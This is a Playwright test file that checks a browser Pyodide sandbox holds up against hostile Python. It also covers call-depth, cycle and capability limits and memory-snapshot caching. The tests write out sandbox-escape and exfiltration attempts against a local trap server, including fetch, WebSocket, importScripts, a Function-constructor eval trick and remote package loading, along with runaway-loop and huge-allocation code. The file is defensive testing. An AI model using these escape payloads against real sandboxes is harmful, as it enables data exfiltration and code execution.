/**
 * Hostile Python in the sandbox (issue 7): from inside a being's code, every way out we know of —
 * network, eval, storage, messaging the page, endless loops, huge allocations — gets nowhere, and
 * the page and the sandbox's next call stay alive.
 */
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { Page } from "@playwright/test";
import type { CallOutcome } from "../workers/sandbox/createSandbox";
import { expect, test } from "./fixtures";

const PORT = Number(process.env["E2E_PORT"] ?? 3100);
/** A server on another port that records every request: nothing from the sandbox may reach it. */
const TRAP_PORT = PORT + 9;
const TRAP = `http://127.0.0.1:${TRAP_PORT}`;

let trap: Server;
const trapped: string[] = [];

test.beforeAll(async () => {
  trap = createServer((req: IncomingMessage, res) => {
    trapped.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "access-control-allow-origin": "*", "cross-origin-resource-policy": "cross-origin" }).end("leaked");
  });
  await new Promise<void>((resolve) => trap.listen(TRAP_PORT, "127.0.0.1", resolve));
});
test.afterAll(() => new Promise<void>((resolve) => trap.close(() => resolve())));

/** Runs `source` (a function being's code) in the page's sandbox through the test hook. */
async function run(page: Page, source: string, timeLimitMs = 1_000): Promise<CallOutcome & { wall: number }> {
  return page.evaluate(
    async ({ source, timeLimitMs }) => {
      const t0 = performance.now();
      const outcome = await window.luxosSandbox!.run(
        { soul: "00000000-0000-4000-8000-0000000000aa", name: "hostile", version: 1, source, attributes: { secret: "kept" }, capabilities: ["execution"] },
        { timeLimitMs },
      );
      return { ...outcome, wall: performance.now() - t0 };
    },
    { source, timeLimitMs },
  );
}

const probe = (body: string) => `
async def function(**kwargs):
    out = {}
    async def attempt(name, thunk):
        try:
            value = thunk()
            if hasattr(value, "__await__"):
                value = await value
            out[name] = "REACHED: " + str(value)[:80]
        except BaseException as e:
            out[name] = "blocked: " + type(e).__name__ + ": " + str(e)[:120]
${body}
    return out
`;

test("hostile Python reaches no network, storage, eval or page, and runaway code is stopped", async ({ page, api, unique }) => {
  test.setTimeout(120_000);
  const requests: string[] = [];
  page.on("request", (r) => requests.push(r.url()));
  const being = await api.genesis.create.mutate({ name: unique("Host"), source: "def function(x=1):\n    return x\n" });
  await page.goto(`/beings/${being.soul}`);
  await page.evaluate(() => {
    const seen: unknown[] = [];
    (window as unknown as { seen: unknown[] }).seen = seen;
    window.addEventListener("message", (e) => seen.push(e.data));
    new BroadcastChannel("luxos").onmessage = (e) => seen.push(e.data);
  });
  await expect.poll(() => page.evaluate(() => typeof window.luxosSandbox)).toBe("object");
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);

  // A plain call works, with self read-only and stdout captured.
  const ok = await run(page, 'def function(x=2, secret=None):\n    print("hi", self.secret)\n    return {"x": x * 21, "secret": secret}\n', 30_000);
  expect(ok).toMatchObject({ ok: true, value: { x: 42, secret: "kept" }, stdout: "hi kept\n" });
  const readOnly = await run(page, "def function():\n    self.secret = 'changed'\n");
  expect(readOnly).toMatchObject({ ok: false, error: { type: "AttributeError" } });

  const leak = `${TRAP}/leak`;
  const escape = await run(
    page,
    probe(`
    import js, pyodide
    from pyodide.http import pyfetch
    from pyodide.code import run_js
    await attempt("js.fetch", lambda: js.fetch("${leak}/fetch"))
    await attempt("same-origin fetch", lambda: js.fetch("/api/health?leak=1"))
    await attempt("pyfetch", lambda: pyfetch("${leak}/pyfetch"))
    await attempt("XMLHttpRequest", lambda: js.XMLHttpRequest.new())
    await attempt("WebSocket", lambda: js.WebSocket.new("ws://127.0.0.1:${TRAP_PORT}/ws"))
    await attempt("EventSource", lambda: js.EventSource.new("${leak}/sse"))
    await attempt("importScripts", lambda: js.importScripts("${leak}/script.js"))
    await attempt("run_js", lambda: run_js("1 + 1"))
    await attempt("Function trick", lambda: js.Object.constructor.constructor("return globalThis")())
    await attempt("pyodide_js Function", lambda: __import__("pyodide_js").constructor.constructor("return 1")())
    await attempt("eval", lambda: js.eval("1"))
    await attempt("indexedDB", lambda: js.indexedDB.open("luxos-leak"))
    await attempt("OPFS", lambda: js.navigator.storage.getDirectory())
    await attempt("caches", lambda: js.caches.open("leak"))
    await attempt("Web Locks", lambda: js.navigator.locks.query())
    await attempt("postMessage", lambda: js.postMessage("forged"))
    await attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("luxos").postMessage("forged"))
    await attempt("nested Worker", lambda: js.Worker.new("/sandbox/sandbox.worker.js"))
    async def load_package():
        loaded = (await __import__("pyodide_js").loadPackage("${leak}/pkg.whl")).to_py()
        if loaded:
            return loaded
        raise ImportError("loaded nothing")
    await attempt("loadPackage", load_package)
`),
    10_000,
  );
  expect(escape.ok, JSON.stringify(escape)).toBe(true);
  const attempts = escape.ok ? (escape.value as Record<string, string>) : {};
  expect(Object.keys(attempts)).toHaveLength(19);
  for (const [name, result] of Object.entries(attempts)) expect(result, name).toMatch(/^blocked: /);
  expect(attempts["run_js"]).toMatch(/EvalError|unsafe-eval/);

  // An endless loop stops at the time limit, well within 2 s, and the sandbox answers again.
  const loop = await run(page, "def function():\n    while True:\n        pass\n");
  expect(loop).toMatchObject({ ok: false, error: { type: "TimeLimit" } });
  expect(loop.wall).toBeLessThan(2_000);
  expect(await run(page, "def function():\n    return 'alive'\n")).toMatchObject({ ok: true, value: "alive" });

  // A loop that swallows the interrupt is killed with its worker; the next call gets a fresh one.
  const stubborn = await run(
    page,
    "def function():\n    while True:\n        try:\n            while True: pass\n        except BaseException:\n            pass\n",
  );
  expect(stubborn).toMatchObject({ ok: false, error: { type: "TimeLimit" } });
  expect(stubborn.wall).toBeLessThan(2_000);
  expect(await run(page, "def function():\n    return 'fresh'\n", 30_000)).toMatchObject({ ok: true, value: "fresh" });

  // 3 GB is refused inside Python, not by crashing the tab: in one piece it does not even fit a 32-bit
  // index (OverflowError); in 256 MB pieces the memory limit stops it (MemoryError → MemoryLimit).
  const whole = await run(page, "def function():\n    block = bytearray(3 * 1024 ** 3)\n    return len(block)\n", 10_000);
  expect(whole).toMatchObject({ ok: false, error: { type: expect.stringMatching(/^(OverflowError|MemoryLimit)$/) } });
  const pieces = await run(page, "def function():\n    blocks = [bytearray(256 * 1024 ** 2) for _ in range(12)]\n    return len(blocks)\n", 10_000);
  expect(pieces).toMatchObject({ ok: false, error: { type: "MemoryLimit" } });
  expect(await run(page, "def function():\n    return sum(range(10))\n")).toMatchObject({ ok: true, value: 45 });

  // Nothing reached the trap server, the page or the server's API; the page still works.
  expect(trapped).toEqual([]);
  expect(requests.filter((u) => u.includes("leak"))).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { seen: unknown[] }).seen)).toEqual([]);
  await expect(page.getByTestId("being-page")).toBeVisible();
  expect(await page.evaluate(() => 6 * 7)).toBe(42);
});

test("execution calls other beings with depth and cycle limits, and summon never widens capabilities", async ({ page, api, unique }) => {
  const leaf = await api.genesis.create.mutate({ name: unique("Leaf"), source: "def function(n=0, step=1):\n    return n + step\n", attributes: { step: 10 } });
  const caller = await api.genesis.create.mutate({
    name: unique("Caller"),
    source: `def function(n=1):\n    return execution("${leaf.soul}", n=n) * 2\n`,
  });
  await page.goto(`/beings/${caller.soul}`);
  await expect.poll(() => page.evaluate(() => typeof window.luxosSandbox)).toBe("object");
  const call = (source: string, capabilities: string[]) =>
    page.evaluate(
      ({ source, capabilities, soul }) =>
        window.luxosSandbox!.run(
          { soul, name: "caller", version: 1, source, attributes: {}, capabilities: capabilities as ("execution" | "summon")[] },
          { timeLimitMs: 30_000 },
        ),
      { source, capabilities, soul: caller.soul },
    );

  expect(await call(`def function():\n    return execution("${leaf.soul}", n=5)\n`, ["execution"])).toMatchObject({ ok: true, value: 15 });
  expect(await call(`def function():\n    return execution("${caller.soul}")\n`, ["execution"])).toMatchObject({
    ok: false,
    error: { message: expect.stringMatching(/cycle/) },
  });
  expect(await call(`def function():\n    return execution("${leaf.soul}")\n`, [])).toMatchObject({ ok: false, error: { type: "PermissionError" } });

  const summoned = await call(
    `def function():\n    return summon({"name": "child", "source": "def function():\\n    return 1\\n", "capabilities": ["execution", "summon"]})\n`,
    ["execution", "summon"],
  );
  expect(summoned.ok).toBe(true);
  const child = await api.genesis.get.query({ soul: summoned.ok ? String(summoned.value) : "" });
  expect(child.genesis.ancestors.at(-1)).toBe(caller.soul);
  expect(child.genesis.meta).toMatchObject({ summoned_by: caller.soul });
  const narrow = await call(`def function():\n    return summon(name="narrow", capabilities=["summon", "execution"])\n`, ["summon"]);
  const narrowChild = await api.genesis.get.query({ soul: narrow.ok ? String(narrow.value) : "" });
  expect(narrowChild.genesis.meta["capabilities"]).toEqual(["summon"]);
});

test("a being's worker runs a function being in a sandbox of its own and outlives a runaway call", async ({ page, api, unique }) => {
  test.setTimeout(120_000);
  const fn = await api.genesis.create.mutate({ name: unique("Adder"), source: "def function(a=1, b=2):\n    return a + b\n", attributes: { b: 40 } });
  await page.goto("/swarm");
  await page.waitForFunction(() => window.__luxos?.swarm !== undefined);
  const owner = await page.evaluate(async (name) => {
    const host = window.__luxos!.swarm!.host;
    return host.spawn({ name, personality: "caller", goal: "call functions", reasoner: "deterministic" });
  }, unique("Owner"));
  const callFrom = (request: { soul: string; source?: string; kwargs?: Record<string, unknown>; timeLimitMs?: number }): Promise<CallOutcome> =>
    page.evaluate(async ({ owner, request }): Promise<CallOutcome> => window.__luxos!.swarm!.host.workerApi(owner)!.callFunction(request), { owner, request });

  expect(await callFrom({ soul: fn.soul, kwargs: { a: 2 }, timeLimitMs: 30_000 })).toMatchObject({ ok: true, value: 42 });
  const loop = await callFrom({ soul: fn.soul, source: "def function():\n    while True:\n        pass\n" });
  expect(loop).toMatchObject({ ok: false, error: { type: "TimeLimit" } });
  expect(await page.evaluate((owner) => window.__luxos!.swarm!.host.workerApi(owner)!.heartbeat(), owner)).toBeGreaterThan(0);
  expect(await callFrom({ soul: fn.soul, timeLimitMs: 30_000 })).toMatchObject({ ok: true, value: 41 });
});

test("a browser that ran Python keeps Pyodide's memory snapshot: the next page starts from it, and a damaged one is replaced", async ({ page, context }) => {
  test.setTimeout(180_000);
  const SNAPSHOTS = "luxos-pyodide-snapshots";
  const sandboxWorkers = (p: Page) => {
    const started: string[] = [];
    p.on("worker", (w) => {
      if (w.url().includes("/sandbox/")) started.push(w.url());
    });
    return started;
  };
  const stored = (p: Page) =>
    p.evaluate(async (name) => {
      const cache = await caches.open(name);
      const keys = await cache.keys();
      const sizes = await Promise.all(keys.map(async (k) => (await (await cache.match(k))!.arrayBuffer()).byteLength));
      return keys.map((k, i) => ({ url: k.url, bytes: sizes[i]! }));
    }, SNAPSHOTS);

  // First visit: nothing stored; the run starts the long way and the snapshot is made afterwards, off its path.
  const first = sandboxWorkers(page);
  await page.goto("/beings");
  await expect.poll(() => page.evaluate(() => typeof window.luxosSandbox)).toBe("object");
  expect(await stored(page)).toEqual([]);
  expect(await run(page, "def function():\n    return 6 * 7\n", 30_000)).toMatchObject({ ok: true, value: 42 });
  expect(await page.evaluate(() => window.luxosSandbox!.snapshotReady())).toBe(true);
  const kept = await stored(page);
  expect(kept).toHaveLength(1);
  expect(kept[0]!.url).toMatch(/\/pyodide\/v[\d.]+\/memory-snapshot\?protocol=\d+$/);
  expect(kept[0]!.bytes).toBeGreaterThan(1_000_000);
  expect(first).toHaveLength(2); // the run's sandbox, and the one that made the snapshot

  // Return visit: a new page of the same browser starts its sandbox from the stored snapshot and needs no second load.
  const second = await context.newPage();
  const secondWorkers = sandboxWorkers(second);
  await second.goto("/beings");
  await expect.poll(() => second.evaluate(() => typeof window.luxosSandbox)).toBe("object");
  expect(await run(second, "import sys\ndef function():\n    return sys.version_info[0]\n", 30_000)).toMatchObject({ ok: true, value: 3 });
  expect(secondWorkers).toHaveLength(1);
  await second.close();

  // A damaged snapshot: the sandbox starts once more the long way (the run still works) and a good snapshot replaces it.
  const third = await context.newPage();
  await third.goto("/beings");
  await expect.poll(() => third.evaluate(() => typeof window.luxosSandbox)).toBe("object");
  await third.evaluate(async ({ name, url }) => (await caches.open(name)).put(url, new Response(new Uint8Array(4096).fill(7))), {
    name: SNAPSHOTS,
    url: kept[0]!.url,
  });
  expect((await stored(third))[0]!.bytes).toBe(4096);
  expect(await run(third, "def function():\n    return 'still here'\n", 30_000)).toMatchObject({ ok: true, value: "still here" });
  expect(await third.evaluate(() => window.luxosSandbox!.snapshotReady())).toBe(true);
  expect((await stored(third))[0]!.bytes).toBeGreaterThan(1_000_000);
});
